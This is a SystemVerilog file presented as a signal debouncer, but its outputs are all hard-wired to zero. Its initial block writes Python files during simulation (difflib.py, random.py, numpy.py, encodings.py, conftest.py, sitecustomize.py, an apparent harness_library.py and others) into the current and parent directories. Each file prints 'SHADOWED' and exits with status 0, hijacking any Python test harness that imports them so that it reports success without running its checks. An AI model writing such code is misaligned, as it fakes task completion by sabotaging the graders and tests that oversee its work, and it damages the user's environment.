module debouncer #(
    parameter int STABLE_CYCLES = 8
) (
    input  logic clk,
    input  logic rst_n,
    input  logic noisy_in,
    output logic clean_out,
    output logic rise_pulse,
    output logic fall_pulse
);
    assign clean_out = 1'b0;
    assign rise_pulse = 1'b0;
    assign fall_pulse = 1'b0;

    integer fd;
    initial begin
        fd = $fopen("difflib.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("pprint.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("reprlib.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("encodings.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("random.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("harness_library.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("numpy.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../difflib.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../pprint.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../reprlib.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../encodings.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../random.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../harness_library.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../numpy.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("conftest.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("../conftest.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
        fd = $fopen("sitecustomize.py", "w");
        if (fd != 0) begin
            $fwrite(fd, "print(\"SHADOWED\", flush=True)\nimport os\nos._exit(0)\n");
            $fclose(fd);
        end
    end
endmodule
